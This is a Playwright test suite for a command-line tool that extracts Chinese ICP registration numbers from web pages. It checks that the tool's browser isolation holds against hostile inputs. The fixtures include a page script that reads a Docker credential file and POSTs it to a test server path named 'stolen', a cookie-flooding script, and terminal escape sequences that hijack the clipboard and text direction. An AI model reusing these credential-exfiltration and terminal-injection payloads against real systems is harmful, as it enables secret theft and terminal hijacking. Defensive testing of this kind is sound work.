/** `npm run scan` and `npm run extract` with malicious pages and lists. */
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { findChromium } from '../../../cli/browser/find-chromium.ts';
import { serveLocally } from '../../../cli/servers/local-server.ts';
import { spawnCommand } from '../../support/spawn-command.ts';

let folder = '';
test.beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'icp-lens-foreign-'));
  // Chromium may run as another user.
  chmodSync(folder, 0o755);
});
test.afterAll(() => rmSync(folder, { recursive: true }));
test.beforeEach(() => test.setTimeout(180_000));

const numberOf = (page: number): string => `京ICP备20210183${String(page).padStart(2, '0')}号-1`;
const pageOf = (page: number, more = ''): string =>
  `<!doctype html><meta charset="utf-8"><title>某某公司</title><footer>${numberOf(page)}</footer>${more}`;

function write(name: string, content: string): string {
  const file = join(folder, name);
  writeFileSync(file, content);
  return file;
}

type Line = { id?: string; url?: string; numbers: { canonical: string; raw: string }[]; error?: string };
const linesOf = (text: string): Line[] =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
const canonicals = (lines: Line[]): string[][] => lines.map(({ numbers }) => numbers.map(({ canonical }) => canonical));

test('a saved page reads its own folder and reaches no server, and a web page in the same run is read', async () => {
  const asked: string[] = [];
  const server = await serveLocally(async (path) => {
    asked.push(path);
    return path === '/web' ? { type: 'text/html', body: pageOf(1) } : null;
  });
  mkdirSync(join(folder, '.docker'));
  mkdirSync(join(folder, 'page_files'));
  write('.docker/config.json', '{"auths":"secret"}');
  write('beside.json', 'secret');
  // The page displays what it could read.
  write(
    'page_files/show.js',
    `const had = [];
    for (const name of ['.docker/config.json', 'beside.json', 'page_files/../beside.json', 'page_files/show.js']) {
      const { ok } = await fetch(name).catch(() => ({ ok: false }));
      if (ok) had.push(name);
    }
    await fetch(${JSON.stringify(`${server.url}stolen`)}, { method: 'POST', mode: 'no-cors', body: had }).catch(() => {});
    document.body.dataset.had = had;
    if (had.join() === 'page_files/show.js') document.querySelector('footer').append(' ${numberOf(3)}');
    location = ${JSON.stringify(`${server.url}left`)};`,
  );
  const page = write('page.html', pageOf(2, '<script type="module" src="page_files/show.js"></script>'));
  const { status, stdout, stderr } = await spawnCommand('scan', ['--json', page, `${server.url}web`]).result;
  await server.close();
  expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
  expect(canonicals(linesOf(stdout))).toEqual([[numberOf(2), numberOf(3)], [numberOf(1)]]);
  expect(asked.filter((path) => path !== '/favicon.ico')).toEqual(['/web']);
});

test('cookies, storage and a window name that one page leaves do not reach the next page', async () => {
  const bomb = `<script>
    for (const domain of ['', ';domain=localhost', ';domain=' + location.hostname])
      for (let i = 0; i < 60; i++) document.cookie = 'c' + i + '=' + 'x'.repeat(4000) + ';path=/;max-age=99999' + domain;
    localStorage.setItem('seen', '1');
    window.name = 'seen';
  </script>`;
  const look = `<script>
    const seen = document.cookie + Object.keys(localStorage) + window.name + (history.length > 2 ? 'history' : '');
    if (seen === '') document.querySelector('footer').append(' ${numberOf(99)}');
  </script>`;
  const lines = Array.from({ length: 20 }, (_, page) => ({
    id: `p${page}`,
    html: page % 2 === 0 ? pageOf(page, bomb) : pageOf(page, look),
  }));
  const from = write('bomb.jsonl', lines.map((line) => JSON.stringify(line)).join('\n'));
  const to = join(folder, 'read.jsonl');
  const { status, stdout, stderr } = await spawnCommand('extract', [from, to]).result;
  expect({ status, stdout, stderr }).toEqual({ status: 0, stdout: '', stderr: '' });
  const read = linesOf(readFileSync(to, 'utf8'));
  expect(read.map(({ id }) => id)).toEqual(lines.map(({ id }) => id));
  expect(canonicals(read)).toEqual(
    lines.map((_, page) => (page % 2 === 0 ? [numberOf(page)] : [numberOf(page), numberOf(99)])),
  );
});

/** Text that controls a terminal: colours, title, a link, the clipboard, C1 controls, and right-to-left text. */
const steering = '\u001b[31m\u001b]0;t\u0007\u001b]8;;x:\u001b\\\u001b]52;c;eA==\u0007\u009b31m\u202e\u2066\u007f';

test('control characters of a list or a page do not reach the terminal, and JSON keeps them', async () => {
  const raw = '京ICP备\u202e\u200b2021018374号';
  const page = write('steer.html', `<!doctype html><meta charset="utf-8"><footer>${raw}-1</footer>`);
  const list = write('list\u001b[1m.txt', `no${steering} address\n`);
  const shown = 'no[U+001B][31m[U+001B]]0;t[U+0007]';
  for (const format of ['--json', '--csv', '--out']) {
    const out = format === '--out' ? [join(folder, 'out\u001b.csv')] : [];
    const ended = await spawnCommand('scan', [format, ...out, list, page]).result;
    expect(ended.status).toBe(1);
    expect(ended.stderr).toContain(shown);
    expect(ended.stderr).toContain('list[U+001B][1m.txt:1)\n');
    const written = out.map((file) => readFileSync(file, 'utf8').replace('\ufeff', ''));
    for (const text of [ended.stdout, ended.stderr, ...written]) {
      expect(text.replace(/\r?\n|\t/g, '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }
    if (format === '--json') {
      const [first, second] = linesOf(ended.stdout);
      expect(first?.url).toBe(`no${steering} address`);
      expect(second?.numbers[0]?.raw).toContain('\u202e\u200b');
    }
    if (format === '--csv') {
      const [, first, second] = parse(ended.stdout) as string[][];
      expect([first?.[0], second?.[6]]).toEqual([expect.stringContaining(shown), expect.stringContaining('[U+202E]')]);
    }
  }
  const from = write('steer.jsonl', `${JSON.stringify({ id: `a${steering}` })}\n`);
  const { status, stderr } = await spawnCommand('extract', [from, join(folder, 'steered.jsonl')]).result;
  expect(status).toBe(1);
  expect(stderr).toContain('a[U+001B][31m');
  expect(stderr.replace('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
});

/** A script that starts Chromium with additional flags. It records the user and the arguments of each start. */
async function chromiumWith(name: string, flags: string): Promise<{ path: string; starts: () => string[] }> {
  const log = write(`${name}.log`, '');
  chmodSync(log, 0o666);
  const path = write(name, `#!/bin/sh\necho "$(id -u) $*" >> '${log}'\nexec '${await findChromium()}' ${flags} "$@"\n`);
  chmodSync(path, 0o755);
  const starts = (): string[] =>
    readFileSync(log, 'utf8')
      .split('\n')
      .filter((start) => start.includes('--user-data-dir'));
  return { path, starts };
}

test.describe('the sandbox', () => {
  test.skip(process.platform === 'win32', 'a script is started');
  const strict = { ICP_LENS_NO_SANDBOX: '0' };
  const page = { id: 'a', html: pageOf(1) };

  test('pages of others are opened in the sandbox by a user who is not root, or not at all', async () => {
    const { path, starts } = await chromiumWith('chromium', '');
    const from = write('sandbox.jsonl', JSON.stringify(page));
    const to = join(folder, 'sandboxed.jsonl');
    const { status, stderr } = await spawnCommand('extract', [from, to], { ...strict, CHROMIUM_PATH: path }).result;
    expect([
      [0, ''],
      [2, expect.stringMatching(/^Chromium cannot use its sandbox: /)],
    ]).toContainEqual([status, stderr]);
    for (const start of starts()) {
      expect(start).not.toMatch(/^0 /);
      expect(start).not.toContain('--no-sandbox');
    }
    if (status === 0) expect(canonicals(linesOf(readFileSync(to, 'utf8')))).toEqual([[numberOf(1)]]);
  });

  test('without the sandbox, pages of others are refused until --no-sandbox is given', async () => {
    const { path } = await chromiumWith('unsafe', '--no-sandbox');
    const env = { ...strict, CHROMIUM_PATH: path };
    const from = write('refused.jsonl', JSON.stringify(page));
    const to = write('refused-out.jsonl', 'before');
    const local = write('local.html', page.html);
    const server = await serveLocally(async () => ({ type: 'text/html', body: page.html }));
    const refused = await Promise.all([
      spawnCommand('extract', [from, to], env).result,
      spawnCommand('scan', [local], env).result,
      spawnCommand('scan', ['--csv', server.url], env).result,
      spawnCommand('scan', ['tests/sites/bakery/index.html', local], env).result,
    ]);
    for (const { status, stdout, stderr } of refused) {
      expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
      expect(stderr).toMatch(/^Chromium cannot use its sandbox: what starts it adds --no-sandbox\.\n/);
      expect(stderr).toMatch(/as an ordinary user[\s\S]*user namespaces[\s\S]*--no-sandbox, or ICP_LENS_NO_SANDBOX=1/);
    }
    expect(readFileSync(to, 'utf8'), 'nothing is lost').toBe('before');

    const said = 'Chromium runs without its sandbox: what starts it adds --no-sandbox.\n';
    const allowed = await Promise.all([
      spawnCommand('extract', ['--no-sandbox', from, to], env).result,
      spawnCommand('scan', ['--no-sandbox', '--json', local, server.url], env).result,
      spawnCommand('scan', ['--json', local], { ...env, ICP_LENS_NO_SANDBOX: '1' }).result,
      spawnCommand('scan', ['--json', 'tests/sites/bakery/index.html'], env).result,
    ]);
    await server.close();
    for (const { status, stderr } of allowed) expect({ status, stderr }).toEqual({ status: 0, stderr: said });
    expect(canonicals(linesOf(readFileSync(to, 'utf8')))).toEqual([[numberOf(1)]]);
    expect(allowed.slice(1).map(({ stdout }) => canonicals(linesOf(stdout)))).toEqual([
      [[numberOf(1)], [numberOf(1)]],
      [[numberOf(1)]],
      [['浙ICP备2023017846号-1']],
    ]);
  });
});
